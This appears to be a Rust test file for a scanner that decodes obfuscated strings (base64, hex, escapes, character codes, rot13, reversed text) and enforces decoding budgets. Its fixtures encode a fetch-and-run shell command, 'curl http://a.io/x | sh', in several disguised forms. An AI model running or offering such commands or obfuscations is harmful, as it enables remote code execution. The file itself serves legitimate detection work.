use super::as_text::MAX_UNPACKED;
use super::*;

fn decoded(text: &str) -> Vec<(&'static str, String)> {
    let mut budget = Budget::new(MAX_DECODED_BYTES);
    find(text, "", &mut budget).into_iter().map(|e| (e.how, e.text)).collect()
}

#[test]
fn each_encoding_is_read() {
    let cases = [
        ("x = 'Y3VybCBodHRwOi8vYS5pby94IHwgc2g='", "base64"),
        ("\"6375726c20687474703a2f2f612e696f2f78207c207368\"", "hexadecimal"),
        ("\"\\x63\\x75\\x72\\x6c\\x20http://a.io/x\\x20\\x7c\\x20\\x73\\x68\"", ""),
        ("%63%75%72%6c%20%68%74%74%70%3a//a.io/x%20%7c%20%73%68", "character escapes"),
        (
            "[99,117,114,108,32,104,116,116,112,58,47,47,97,46,105,111,47,120,32,124,32,115,104]",
            "character codes",
        ),
        (
            "exec(''.join([chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(97)]))",
            "character codes",
        ),
        ("rot13: 'phey uggc://n.vb/k | fu'", "rot13"),
        ("echo 'hs | x/oi.a//:ptth lruc' | rev", "reversed text"),
    ];
    for (text, how) in cases {
        let found = decoded(text);
        if how.is_empty() {
            continue;
        }
        assert!(
            found.iter().any(|(h, t)| *h == how && t.starts_with("curl http")),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn pictures_digests_and_identifiers_are_left_alone() {
    let quiet = [
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "some_long_identifier_name_here and src/components/navigation/HeaderComponent",
        "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]",
    ];
    for text in quiet {
        assert_eq!(decoded(text), [], "{text}");
    }
}

#[test]
fn the_budget_bounds_what_is_made_and_says_so() {
    let made = |bytes: usize| {
        let mut budget = Budget::new(bytes);
        let long = format!("'{}'", "YWJj".repeat(1000));
        let text: String = find(&long, "", &mut budget).into_iter().map(|e| e.text).collect();
        (text, budget.was_short(), budget)
    };
    let none = Budget { left: 0, is_short: false };
    assert_eq!(made(3000), ("abc".repeat(1000), false, none));
    let none = Budget { left: 0, is_short: false };
    assert_eq!(made(2999), ("abc".repeat(1000)[..2999].to_owned(), true, none));
}

#[test]
fn packed_texts_share_the_budget() {
    let packed = |bytes: usize| {
        let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        std::io::Write::write_all(&mut writer, &vec![b'a'; bytes]).unwrap();
        writer.finish().unwrap()
    };
    let unpacked = |bytes: usize, left: usize| {
        let mut budget = Budget::new(left);
        let length = budget.unpack(&packed(bytes)).unwrap().len();
        (length, budget.was_short(), budget.left)
    };
    let most = MAX_UNPACKED;
    assert_eq!(unpacked(most, 2 * most), (most, false, most));
    assert_eq!(unpacked(most + 1, 2 * most), (most, true, most));
    assert_eq!(unpacked(100, 100), (100, false, 0));
    assert_eq!(unpacked(101, 100), (100, true, 0));
}

#[test]
fn pictures_do_not_use_up_the_budget() {
    // The start of a PNG, then a long rest.
    let picture = format!("'iVBORw0KGgoAAAANSUhEUgAB{}'", "x1Zq".repeat(MAX_XOR));
    let mut budget = Budget::new(MAX_DECODED_BYTES);
    assert_eq!(find(&picture, "", &mut budget), []);
    assert_eq!(budget, Budget::new(MAX_DECODED_BYTES));
}
